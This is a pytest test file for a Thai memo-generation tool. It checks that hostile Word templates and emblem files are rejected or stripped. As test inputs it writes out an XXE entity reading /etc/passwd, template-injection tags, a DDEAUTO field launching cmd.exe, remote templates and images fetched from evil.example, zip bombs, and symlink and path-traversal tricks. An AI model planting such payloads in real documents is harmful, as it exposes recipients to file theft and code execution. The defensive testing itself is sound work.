"""Templates and emblems that are built to harm: the built-in wording serves, and nothing is carried on."""

from __future__ import annotations

import io
import json
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from ita_batch.agency import Agency
from ita_batch.findings import Severity
from ita_batch.messages import fix, message
from ita_batch.publish.letters.own_wording import OwnWording, own_wording
from ita_batch.publish.word.write_document import finished, memo_bytes
from ita_batch.workspace import open_workspace
from tests.agency.agency_books import SETTINGS, make_workspace, write_agency
from tests.commands.command_line import run
from tests.hostile.hostile_packages import packed
from tests.runs.small_weeks import small_folder
from tests.support.raw_templates import DOCUMENT, RELATIONS, parts_of, with_body, with_relation, written
from tests.support.weeks import AS_OF
from tests.word.conftest import realistic

MEMO = "memo_template.docx"
DAY = "2564-03-12"
posix = pytest.mark.posix("pipes and devices")


@pytest.fixture(scope="module")
def agency(tmp_path_factory: pytest.TempPathFactory) -> Agency:
    """An agency without an emblem."""
    folder = tmp_path_factory.mktemp("agency")
    make_workspace(folder)
    return open_workspace(folder, AS_OF).agency


def line(text: str) -> str:
    """A paragraph."""
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def changed(name: str, change: Callable[[bytes], bytes]) -> dict[str, bytes]:
    """The template that ships with one part changed."""
    parts = parts_of()
    parts[name] = change(parts[name])
    return parts


def without(name: str) -> dict[str, bytes]:
    """The template that ships without one part."""
    return {key: data for key, data in parts_of().items() if key != name}


def encrypted() -> bytes:
    """A package whose first member says that it is encrypted."""
    data = bytearray(packed(parts_of()))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(mark) + at] |= 1
    return bytes(data)


IFS = "{% if เรียน %}"
UNUSABLE: dict[str, tuple[str, Callable[[], bytes | dict[str, bytes]]]] = {
    "conditions nested deeply": ("too-complex", lambda: with_body(line(IFS * 3000 + "{% endif %}" * 3000))),
    "conditions in many lines": ("too-complex", lambda: with_body(line(IFS + "{% endif %}") * 900)),
    "nots without end": ("too-complex", lambda: with_body(line("{% if " + "not " * 5000 + "เรียน %}x{% endif %}"))),
    "brackets without end": ("too-complex", lambda: with_body(line("{{ " + "(" * 9000 + "}}"))),
    "faults without end": ("too-complex", lambda: with_body(line("{{ x }}" * 900))),
    "marks without end": ("too-complex", lambda: with_body(line("[[ x ]]" * 900))),
    "a loop between paragraphs": ("failed", lambda: with_body("{% for i in range(10**9) %}" + line("x"))),
    "a broken font table": ("damaged", lambda: changed("word/fontTable.xml", lambda _: b"<w:fonts")),
    "a font table of another kind": ("damaged", lambda: changed("word/fontTable.xml", lambda _: b"<fonts/>")),
    "another root": ("damaged", lambda: changed(DOCUMENT, lambda _: b"<html/>")),
    "an empty part": ("damaged", lambda: changed("word/styles.xml", lambda _: b"")),
    "no body": ("failed", lambda: changed(DOCUMENT, lambda xml: re.sub(rb"(?s)<w:body>.*</w:body>", b"", xml))),
    "an entity": ("damaged", lambda: changed(DOCUMENT, lambda xml: xml.replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1))),
    "deep XML": ("damaged", lambda: with_body("<w:sdt>" * 900 + "</w:sdt>" * 900)),
    "a missing part": ("failed", lambda: without("word/header1.xml")),
    "no content types": ("not-word", lambda: without("[Content_Types].xml")),
    "no relationships": ("failed", lambda: without("_rels/.rels")),
    "macros": ("failed", lambda: changed("[Content_Types].xml", lambda xml: xml.replace(
        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"))),
    "a member twice": ("damaged", lambda: packed(parts_of(), [(DOCUMENT, b"<x/>")])),
    "a member in capitals": ("damaged", lambda: packed(parts_of(), [(DOCUMENT.upper(), b"<x/>")])),
    "an encrypted member": ("encrypted", encrypted),
    "a password": ("encrypted", lambda: b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le")),
    "a .doc": ("not-word", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
    "a bomb": ("too-large", lambda: {**parts_of(), "word/media/a.bin": bytes(80 << 20)}),
    "a bomb of XML": ("too-large", lambda: with_body(line("ก" * 3_000_000))),
    "many members": ("too-large", lambda: {**parts_of(), **{f"word/x{n}.xml": b"<x/>" for n in range(600)}}),
    "text": ("not-word", lambda: b"hello"),
    "nothing": ("not-word", lambda: b""),
}  # fmt: skip


LOOP = "{% for i in range(10**9) %}"
SHOWN: dict[str, tuple[str, str, Callable[[], dict[str, bytes]]]] = {  # the kind of the problem, and what is shown
    "conditions left open": ("unreadable-tag", "{% if เรียน %}", lambda: with_body(line(IFS * 5))),
    "a loop": ("unreadable-tag", LOOP, lambda: with_body(line(f"{LOOP}x{{% endfor %}}"))),
    "a loop in a header": ("unreadable-tag", LOOP, lambda: changed("word/header1.xml", lambda xml: xml.replace(
        b"</w:hdr>", line(LOOP + "x").encode() + b"</w:hdr>"))),
    "a macro": ("unreadable-tag", "{% macro x() %}", lambda: with_body(line("{% macro x() %}{% endmacro %}"))),
    "a power": ("unknown-field-unlike", "{{9**9**9**9}}", lambda: with_body(line("{{ 9**9**9**9 }}"))),
    "an attribute": ("unknown-field-unlike", "{{เรียน.__class__.__mro__}}", lambda: with_body(
        line("{{ เรียน.__class__.__mro__ }}"))),
    "a remark": ("lost-sign-unlike", "{# x #}", lambda: with_body(line("{# x #}"))),
}  # fmt: skip


def laid(folder: Path, content: bytes | Mapping[str, bytes], name: str = MEMO) -> Path:
    """A template in a workspace."""
    if isinstance(content, bytes):
        (folder / name).write_bytes(content)
        return folder / name
    return written(folder / name, content)


def told(wording: OwnWording, language: str = "th") -> list[str]:
    """The keys of what is said, but for the missing emblem; every sentence can be said."""
    found = [one for one in wording.findings if one.code.slug != "emblem-missing"]
    assert all(message(one, language) and fix(one, language) for one in found)  # type: ignore[arg-type]
    return [one.message_key.removeprefix("memo-template.") for one in found]


@pytest.mark.parametrize("name", UNUSABLE)
def test_a_harmful_template_is_set_aside_with_its_reason(tmp_path: Path, agency: Agency, name: str) -> None:
    """One warning, in true words, and the built-in wording."""
    reason, content = UNUSABLE[name]
    laid(tmp_path, content())
    wording = own_wording(tmp_path, agency)
    assert told(wording) == [f"template-{reason}"]
    assert wording.findings[0].severity is Severity.WARNING
    assert wording.templates == {}


@pytest.mark.parametrize("name", SHOWN)
def test_a_harmful_tag_is_shown_and_never_run(tmp_path: Path, agency: Agency, name: str) -> None:
    """It stands in the paper as it was typed; no part of it has been evaluated."""
    kind, shown, content = SHOWN[name]
    path = laid(tmp_path, content())
    wording = own_wording(tmp_path, agency)
    assert set(told(wording)) == {kind}
    assert wording.findings[0].severity is Severity.WARNING
    assert wording.templates == {MEMO: path}
    assert shown in package(memo_bytes(realistic(), path)[0])


@posix
@pytest.mark.parametrize("kind", ["pipe", "device", "link", "dangling link", "folder"])
def test_only_a_regular_file_is_a_template(tmp_path: Path, agency: Agency, kind: str) -> None:
    """Nothing waits, nothing is followed."""
    path = tmp_path / "w" / MEMO
    path.parent.mkdir()
    irregular(kind, path, written(tmp_path / "elsewhere.docx", parts_of()))
    wording = own_wording(path.parent, agency)
    assert told(wording) == ["template-irregular"]
    assert wording.templates == {}


def irregular(kind: str, path: Path, elsewhere: Path) -> None:
    """Put something there that has the name of a file."""
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to({"device": Path("/dev/zero"), "link": elsewhere, "dangling link": Path("nowhere")}[kind])


OUTSIDE = {  # what is laid into the template: body, relationship, and what is named
    "a template of elsewhere": ("", ("attachedTemplate", "file://server/evil.dotm", "word/settings.xml"), "evil.dotm"),
    "a template of the web": ("", ("attachedTemplate", "https://evil.example/e.dotm", "word/settings.xml"), "evil.ex"),
    "a picture of the web": (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rOut"/>'
        "</w:drawing></w:r></w:p>", ("image", "https://evil.example/p.png", DOCUMENT), "p.png"),
    "an object": (
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rOut"/></w:object></w:r></w:p>',
        ("oleObject", "file:///C:/a.xlsx", DOCUMENT), "a.xlsx"),
    "a link to a share": (
        '<w:p><w:hyperlink r:id="rOut"><w:r><w:t>กดตรงนี้</w:t></w:r></w:hyperlink></w:p>',
        ("hyperlink", r"\\server\share\a.exe", DOCUMENT), "a.exe"),
    "a link to a file": (
        '<w:p><w:hyperlink r:id="rOut"><w:r><w:t>กดตรงนี้</w:t></w:r></w:hyperlink></w:p>',
        ("hyperlink", "file:///C:/Windows/a.exe", DOCUMENT), "a.exe"),
    "a frame": ("", ("frame", "https://evil.example/f.html", "word/settings.xml"), "f.html"),
    "another document": ('<w:altChunk r:id="rOut"/>', ("aFChunk", "https://evil.example/c.html", DOCUMENT), "c.html"),
    "a field that includes": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r>'
        '<w:instrText>TEXT "\\\\\\\\server\\\\a.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>กดตรงนี้</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>', None, "INCLUDETEXT"),
    "a field that starts": (
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>กดตรงนี้</w:t></w:r>'
        "</w:fldSimple></w:p>", None, "DDEAUTO"),
    "an old picture": (
        '<w:p><w:r><w:pict><v:shape id="a"><v:imagedata src="https://evil.example/v.png"/></v:shape></w:pict></w:r></w:p>',
        None, "v.png"),
}  # fmt: skip


def outside(name: str) -> dict[str, bytes]:
    """The template that ships, with that in it."""
    xml, relation, _ = OUTSIDE[name]
    parts = with_body(xml)
    parts[DOCUMENT] = parts[DOCUMENT].replace(
        b"<w:document",
        b'<w:document xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"',
        0 if b"xmlns:r=" in parts[DOCUMENT] else 1,
    )
    if relation:
        kind, target, part = relation
        with_relation(kind, target, parts, part=part)
    return parts


def package(data: bytes) -> str:
    """All XML of a document in one text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(one).decode() for one in archive.namelist() if one.endswith((".xml", ".rels")))


@pytest.mark.parametrize("name", OUTSIDE)
def test_nothing_from_elsewhere_gets_into_a_paper(tmp_path: Path, agency: Agency, name: str) -> None:
    """It is named and left out; the words that were seen stay, and the template is used."""
    from ita_batch.publish.word.own_template import own_template

    path = laid(tmp_path, outside(name))
    wording = own_wording(tmp_path, agency)
    assert told(wording) == ["outside-removed"]
    assert OUTSIDE[name][2] in message(wording.findings[0], "th")
    assert wording.templates == {MEMO: path}
    whole = package(own_template(path, []))
    assert OUTSIDE[name][2] not in whole
    assert "rOut" not in whole
    assert ("กดตรงนี้" in whole) is ("กดตรงนี้" in OUTSIDE[name][0])


def test_links_that_a_person_typed_stay(tmp_path: Path, agency: Agency) -> None:
    """Web pages and e-mail addresses, as relationship and as field."""
    parts = with_body(
        '<w:p><w:hyperlink r:id="rOut"><w:r><w:t>เว็บไซต์</w:t></w:r></w:hyperlink>'
        '<w:fldSimple w:instr=" HYPERLINK &quot;mailto:ita@example.com&quot; "><w:r><w:t>อีเมล</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )
    with_relation("hyperlink", "https://www.pao.example/ita", parts)
    laid(tmp_path, parts)
    wording = own_wording(tmp_path, agency)
    assert told(wording) == []
    assert MEMO in wording.templates


def test_a_template_that_is_slow_is_given_up(tmp_path: Path, agency: Agency, monkeypatch: pytest.MonkeyPatch) -> None:
    """The process that fills it is ended, and another one serves the next template."""
    from ita_batch.publish.word import template_process

    laid(tmp_path, with_body(line("ของเรา {{เรียน}}")))
    template_process.template_process().stop()
    monkeypatch.setattr(template_process, "SECONDS", 0)
    assert told(own_wording(tmp_path, agency)) == ["template-too-complex"]
    monkeypatch.undo()
    assert told(own_wording(tmp_path, agency)) == []


def test_a_template_is_the_one_that_is_meant_wherever_its_process_began(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name means the file of the caller's folder, also when the process was started in another one."""
    for folder in ("ก", "ข"):
        (tmp_path / folder).mkdir()
        monkeypatch.chdir(tmp_path / folder)
        laid(Path(), with_body(line(f"จากโฟลเดอร์ {folder}")))
        data, problems = finished(realistic(), Path(MEMO))
        assert problems == ()
        assert f"จากโฟลเดอร์ {folder}" in package(data)


def png(width: int, height: int) -> bytes:
    """The head and the end of a picture of this size: what is between them is only read by who prints it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))


EMBLEMS: dict[str, tuple[str, Callable[[Path], object]]] = {
    "pipe": ("irregular", lambda path: irregular("pipe", path, path)),
    "device": ("irregular", lambda path: irregular("device", path, path)),
    "folder": ("irregular", lambda path: irregular("folder", path, path)),
    "link": ("irregular", lambda path: irregular("link", path, path.parent / "agency.xlsx")),
    "missing": ("missing", lambda _: None),
    "huge": ("too-large", lambda path: path.write_bytes(png(60_000, 60_000))),
    "many bytes": ("too-large", lambda path: path.write_bytes(png(500, 500) + bytes(11 << 20))),
    "no height": ("too-small", lambda path: path.write_bytes(png(500, 0))),
    "half a head": ("not-a-picture", lambda path: path.write_bytes(png(500, 500)[:20])),
    "half a JPEG": ("not-a-picture", lambda path: path.write_bytes(b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\xff" * 9000)),
    "a TIFF of itself": ("not-a-picture", lambda path: path.write_bytes(b"II*\0\x08\0\0\0" + b"\xff" * 64)),
}


@posix
@pytest.mark.parametrize("name", EMBLEMS)
def test_only_a_picture_in_the_workspace_is_an_emblem(tmp_path: Path, name: str) -> None:
    """Its place stays empty, and why is told."""
    reason, lay = EMBLEMS[name]
    wording = _with_emblem(tmp_path, "ตรา.png", lay)
    assert told(wording) == [f"emblem-{reason}"]
    assert wording.emblem is None


@posix
@pytest.mark.parametrize("path", ["/dev/zero", "../ตรา.png", "/etc/passwd", "ก" * 5000, "a\0b", "inbox/../../ตรา.png"])
def test_an_emblem_elsewhere_is_not_looked_at(tmp_path: Path, path: str) -> None:
    """Absolute, above, and names that no file can have."""
    (tmp_path / "ตรา.png").write_bytes(png(500, 500))
    wording = _with_emblem(tmp_path / "w", path, lambda _: None)
    assert told(wording) in (["emblem-irregular"], ["emblem-missing"])
    assert wording.emblem is None


def _with_emblem(folder: Path, name: str, lay: Callable[[Path], object]) -> OwnWording:
    from dataclasses import replace

    folder.mkdir(exist_ok=True)
    make_workspace(folder)
    if len(name) < 100 and "/" not in name and "\0" not in name:
        lay(folder / name)
    agency = open_workspace(folder, AS_OF).agency
    return own_wording(folder, replace(agency, settings={**agency.settings, "ไฟล์ตราครุฑ": name}))


@posix
def test_the_week_is_published_beside_all_of_it(tmp_path: Path) -> None:
    """The command itself: four harmful templates and an emblem that never ends, and every paper is there."""
    folder = small_folder(tmp_path)
    write_agency(folder / "agency.xlsx", settings={**SETTINGS, "ไฟล์ตราครุฑ": "/dev/zero"})
    laid(folder, outside("a template of elsewhere"))
    laid(folder, UNUSABLE["conditions nested deeply"][1](), "letter_template.docx")
    laid(folder, encrypted(), "circulation_template.docx")
    os.mkfifo(folder / "meeting_template.docx")
    done = run("batch", folder, "--as-of", DAY, folder=folder)
    assert done.returncode == 1, done.stderr
    out = folder / "output" / f"{DAY}_01"
    said = json.loads((out / "findings.json").read_bytes())["findings"]
    keys = [one["message_th"] for one in said if one["code"] == "memo-template"]
    assert len(keys) == 5
    papers = [path.read_bytes() for path in out.rglob("*.docx")]
    assert len(papers) >= 4
    assert not any("evil" in package(one) for one in papers)


def test_relations_are_read_whole() -> None:
    """The template that ships has none that leads outside: what is taken out was put in."""
    assert b"External" not in parts_of()[RELATIONS]
